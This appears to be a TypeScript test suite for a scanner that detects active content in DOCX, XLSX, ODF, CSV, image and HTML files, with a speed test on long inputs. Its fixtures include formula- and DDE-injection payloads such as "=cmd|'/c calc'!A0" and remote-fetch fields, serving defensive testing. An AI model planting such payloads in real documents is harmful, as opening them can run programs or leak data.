import { test } from 'node:test';
import { docx, p, r, relationship, xlsx } from '../../../test/office.ts';
import { ods, odt, op, otbl, otr } from '../../../test/open.ts';
import { judge } from './active.ts';
import {
  text,
  external,
  settings,
  mark,
  part,
  instr,
  field,
  cell,
  sheet,
  formula,
  png,
  jpg,
  hidden,
  words,
  isFound,
} from '../../../test/active.ts';

const ACTIVE: readonly (readonly [what: string, name: string, bytes: Uint8Array, said: RegExp])[] = [
  ['a field that starts a program', 'a.docx', docx(field(' DDE', 'AUTO cmd x ')), /DDE/],
  ['a field glued to its quotes', 'a.docx', docx(field('DDEAUTO"c:\\\\x" y')), /DDE/],
  ['a simple field that starts a program', 'a.docx', docx(p('<w:fldSimple w:instr=" dde excel x"/>')), /DDE/],
  ['a deleted field that starts a program', 'a.docx', docx(p(mark('begin') + instr('DDE excel x', 'delInstrText') + mark('end'))), /DDE/],
  ['a field that is never closed', 'a.docx', docx(p(mark('begin') + instr('DDE excel x'))), /DDE/],
  [
    'a field within a field',
    'a.docx',
    docx(p(mark('begin') + instr('IF 1 = 1 ') + mark('begin') + instr('INCLUDETEXT "http://example.org/x"') + mark('end') + mark('end'))),
    /http:\/\/example\.org\/x/,
  ],
  [
    'a field whose instruction comes from another',
    'a.docx',
    docx(
      p(mark('begin') + mark('begin') + instr('QUOTE 68 68 69') + mark('separate') + r('DDE') + mark('end') + instr(' cmd') + mark('end')),
    ),
    /hidden/,
  ],
  [
    'a picture by a field',
    'a.docx',
    docx(field('INCLUDEPICTURE "\\\\\\\\server\\\\x.png" \\d')),
    /fetches a picture from \\\\server\\x\.png \(in its text\)/,
  ],
  [
    'a picture by a field whose backslashes stand alone',
    'a.docx',
    docx(field('INCLUDEPICTURE "\\\\server\\x.png"')),
    /fetches a picture from/,
  ],
  [
    'a picture by a field in a header',
    'a.docx',
    docx(text, { parts: { header: field('INCLUDEPICTURE "https://example.org/x.png"') } }),
    /in a header/,
  ],
  ...[
    'LINK Excel.Sheet.8 "C:\\\\x.xlsx"',
    'INCLUDETEXT "C:\\\\x.docx"',
    'IMPORT "http://example.org/x.png"',
    'RD "C:\\\\x.docx"',
    'INCLUDE x',
    'DATABASE \\d "x"',
    'PRINT 27',
  ].map((each) => [`the field ${each}`, 'a.docx', docx(field(each)), /another file|picture|database|printer/] as const),
  ...[
    'http://example.org/x.png',
    '\\\\server\\x.png',
    '//server/x.png',
    'file://server/x.png',
    'file:///\\\\server\\x.png',
    'file:////server/x.png',
    'file:///%5C%5Cserver/x.png',
    'ftp://server/x.png',
  ].map((each) => [`a picture at ${each}`, 'a.docx', docx(text, external('image', each)), /fetches a picture from/] as const),
  [
    'a picture elsewhere that does not say so',
    'a.docx',
    docx(text, { relationships: relationship('x1', 'image', 'https://example.org/x.png') }),
    /picture/,
  ],
  [
    'a picture of VML',
    'a.docx',
    docx(p('<w:r><w:pict><v:shape><v:imagedata src="https://example.org/x.png"/></v:shape></w:pict></w:r>')),
    /example\.org/,
  ],
  ['a template on another computer', 'a.docx', docx(text, settings('\\\\server\\t.dotm')), /template/],
  ...['frame', 'subDocument', 'video', 'mailMergeSource', 'aFChunk', 'oleObject', 'externalLinkPath'].map(
    (kind) =>
      [
        `a ${kind} elsewhere`,
        'a.docx',
        docx(text, external(kind, 'http://example.org/x')),
        /elsewhere|part of itself|inside|another file/,
      ] as const,
  ),
  ['another document inside', 'a.docx', docx(text, { relationships: relationship('x1', 'aFChunk', 'chunk.html') }), /inside/],
  [
    'letters sent to many',
    'a.docx',
    docx(text, {
      files: { 'word/settings.xml': '<w:settings xmlns:w="x"><w:mailMerge><w:connectString w:val="x"/></w:mailMerge></w:settings>' },
    }),
    /values/,
  ],
  ['macros', 'a.docx', docx(text, { files: { 'word/vbaProject.bin': 'x' } }), /macros/],
  ['macros by the type', 'a.docx', docx(text, { mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }), /macros/],
  ['a control', 'a.docx', docx(text, { files: { 'word/activeX/activeX1.xml': 'x' } }), /controls/],
  ['an object inside', 'a.docx', docx(text, { files: { 'word/embeddings/oleObject1.bin': 'x' } }), /inside/],
  ['buttons of its own', 'a.docx', docx(text, { files: { 'customUI/customUI14.xml': '<x/>' } }), /buttons/],
  ['an add-in', 'a.docx', docx(text, { files: { 'word/webextensions/taskpanes.xml': '<x/>' } }), /add-in/],
  ['macro sheets', 'a.xlsx', xlsx([sheet], { files: { 'xl/macrosheets/sheet1.xml': '<x/>' } }), /macros/],
  ['another workbook', 'a.xlsx', xlsx([sheet], { files: { 'xl/externalLinks/externalLink1.xml': '<x/>' } }), /another file/],
  ['a connection', 'a.xlsx', xlsx([sheet], { files: { 'xl/connections.xml': '<x/>' } }), /somewhere else/],
  ['a formula that fetches', 'a.xlsx', xlsx([cell('_xlfn.WEBSERVICE("http://example.org")')]), /WEBSERVICE\) \(cell B4\)/],
  ['a formula that shows a picture', 'a.xlsx', xlsx([cell('IF(A1=1,_xlfn.IMAGE(A2))')]), /IMAGE/],
  ['a formula that starts a program', 'a.xlsx', xlsx([cell("cmd|'/c calc'!A0")]), /DDE/],
  ['a formula that opens a file elsewhere', 'a.xlsx', xlsx([cell('HYPERLINK("\\\\server\\x","x")')]), /another computer/],
  ['a formula of another workbook', 'a.xlsx', xlsx([cell("'\\\\server\\[x.xlsx]A'!A1")]), /another file/],
  [
    'a name that fetches',
    'a.xlsx',
    xlsx([sheet], { workbook: '<definedNames><definedName name="x">WEBSERVICE("http://example.org")</definedName></definedNames>' }),
    /WEBSERVICE/,
  ],
  ['macros of OpenDocument', 'a.odt', odt(op('x'), { files: { 'Basic/Standard/Module1.xml': '<x/>' } }), /macros/],
  [
    'an event that starts a macro',
    'a.odt',
    odt('<script:event-listener xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"/>'),
    /program/,
  ],
  ['a link that starts a macro', 'a.odt', odt(op('<text:a xlink:href="vnd.sun.star.script:x">x</text:a>')), /program/],
  [
    'a picture elsewhere in OpenDocument',
    'a.odt',
    odt(op('<draw:frame><draw:image xlink:href="https://example.org/x.png"/></draw:frame>')),
    /picture from https:\/\/example\.org/,
  ],
  ['a picture elsewhere in its headers', 'a.odt', odt(op('x'), { masters: '<draw:image xlink:href="//server/x.png"/>' }), /headers/],
  [
    'a section of another file',
    'a.odt',
    odt('<text:section text:name="x"><text:section-source xlink:href="../x.odt"/></text:section>'),
    /another file/,
  ],
  ['an object of another kind', 'a.odt', odt(op('x'), { files: { 'Object 1': 'x' } }), /inside/],
  [
    'cells of another file',
    'a.ods',
    ods(otbl(otr('<table:table-cell><table:cell-range-source xlink:href="http://example.org/x"/></table:table-cell>'))),
    /another program or file/,
  ],
  ['DDE of OpenDocument', 'a.ods', ods('<table:dde-links/>'), /another program/],
  ['a formula of OpenDocument that fetches', 'a.ods', formula('of:=WEBSERVICE(&quot;http://example.org&quot;)'), /WEBSERVICE/],
  ['a formula of OpenDocument that starts a program', 'a.ods', formula('of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)'), /DDE/],
  ['a formula of another sheet', 'a.ods', formula("of:=['file://server/x.ods'#$A.A1]"), /another file/],
  ['a picture that is an archive too', 'a.png', png(hidden), /two kinds/],
  ['a picture with a page behind it', 'a.png', png(words('<script>')), /hidden/],
  ['a photograph that is an archive too', 'a.jpg', jpg(hidden), /two kinds/],
  ['a photograph with a page behind it', 'a.jpg', jpg(words('<html><script>')), /hidden/],
  ['values that start a program', 'a.csv', words("name,day\nAnn,=cmd|'/c calc'!A0"), /DDE\) \(row 2\)/],
  ['values that fetch', 'a.csv', words('name;day\nAnn;"=WEBSERVICE(""http://example.org/""&A1)"'), /WEBSERVICE/],
  ['values that fetch behind a full-width sign', 'a.csv', words('\uff1dIMPORTXML("http://example.org","x")'), /IMPORTXML/],
  ...['dat', 'real'].map(
    (end) =>
      [
        `a field in a part whose name ends in ${end}`,
        'a.docx',
        docx(text, { files: { [`word/${end}`]: `\ufeff ${part(field('DDEAUTO cmd x'))}` } }),
        /DDE/,
      ] as const,
  ),
  [
    'a formula in a part of another name',
    'a.xlsx',
    xlsx([sheet], { files: { 'other/sheet.dat': '<worksheet><c r="A1"><f>WEBSERVICE("http://example.org")</f></c></worksheet>' } }),
    /WEBSERVICE/,
  ],
  ['a formula that another element parts', 'a.xlsx', xlsx([cell('WEBSER<z/>VICE("http://example.org")')]), /WEBSERVICE/],
  ['a formula that starts a program with no item', 'a.xlsx', xlsx([cell("MSEXCEL|'\\..\\cmd.exe'!''")]), /DDE/],
  ['a formula that starts a program behind a mark in the name of a sheet', 'a.xlsx', xlsx([cell(`'a"'!A1+cmd|'/c "x'!A0`)]), /DDE/],
  [
    'a picture of OpenDocument in a part of another name',
    'a.odt',
    odt(op('x'), { files: { other: '<x><draw:image xlink:href="https://example.org/x.png"/></x>' } }),
    /picture/,
  ],
  ...[
    "=MSEXCEL|'\\..\\cmd.exe'!''",
    "=cmd|'/c x'!'A0'",
    "=cmd|'/c ''x'''!A0",
    `=cmd|'/c ${'x'.repeat(400)}'!A0`,
    "=cmd|'/c x'! A0",
    "=cmd|'/c x'!é1",
    "=cmd|'/c x'!#REF!",
    `"=cmd|'/c x\ny'!A0"`,
    "@SUM(1+1)*cmd|' /c x'!A0",
    "-2+3+cmd|'/c x'!A0",
    '+cmd|x!A0',
    "sep=^\nx^=cmd|'/c x'!A0",
  ].map((each) => [`values that start a program by ${each.slice(0, 40)}`, 'a.csv', words(each), /DDE/] as const),
  ...['WEBSERVICE ("http://example.org")', 'WEBSERVICE(("http://example.org"))', 'WEBSERVICE(+A1)', "WEBSERVICE('S 1'!A1)", 'CALL(x)'].map(
    (each) => [`values that fetch by ${each}`, 'a.csv', words(`"=${each.replaceAll('"', '""')}"`), /fetches/] as const,
  ),
  ...['"\\"&"\\server\\x"', '"http://example.org/?"&A1', 'A1'].map(
    (each) =>
      [
        `values with a link that is put together, ${each}`,
        'a.csv',
        words(`"=HYPERLINK(${each.replaceAll('"', '""')},""x"")"`),
        /opens a file/,
      ] as const,
  ),
  ['values of a workbook on another computer', 'a.csv', words('x,=\\\\server\\share\\x.xlsx!A1'), /another file/],
  ['a page with a script', 'a.html', words('<!doctype html><p>A plan<script>x</script>'), /script/],
  ['a page under an old name that fetches', 'a.doc', words('<html><body><p>A plan<img src="\\\\server\\x.png">'), /server/],
  [
    'a page that fetches by its style',
    'a.html',
    words('<!doctype html><style>p{background:url(https://example.org/x)}</style><p>A plan'),
    /elsewhere/,
  ],
  ['a page that reacts', 'a.html', words('<!doctype html><p onmouseover="x">A plan'), /script/],
  ['words that are run by their name', 'a.hta', words('A plan'), /\.hta/],
];

for (const [what, name, bytes, said] of ACTIVE) {
  test(`${what} is found`, async () => isFound(name, bytes, said));
}

const LONG = 100_000;
const RUNS = [
  '(',
  '[',
  '<',
  '/',
  '%',
  '1 ',
  '\\',
  ' ',
  'stream',
  'endstream',
  '1 0 obj',
  '/AA<<',
  '/AA 1 0 R ',
  '"',
  "'",
  '|',
  '=',
  '\\\\',
  '-,',
  '=A(',
  "'|",
  '% 1 0 obj (',
  '1 0 obj (',
  '<< >> stream ',
  '=a|',
  '"&"',
  '<0',
];

for (const run of RUNS) {
  test(`a long run of ${JSON.stringify(run)} is looked through in a moment in every kind of file`, { timeout: 20_000 }, async () => {
    const long = run.repeat(LONG / run.length);
    for (const [name, bytes] of [
      ['a.pdf', `%PDF-1.7\n1 0 obj ${long}`],
      ['a.csv', long],
      ['a.csv', `=${long}`],
      ['a.html', `<!doctype html><p title="${long}">A plan`],
    ] as const)
      await judge(words(bytes), name);
    await judge(docx(field(long.replaceAll('<', '').replaceAll('&', ''))), 'a.docx');
    await judge(xlsx([cell(long.replaceAll('<', '').replaceAll('&', ''))]), 'a.xlsx');
  });
}
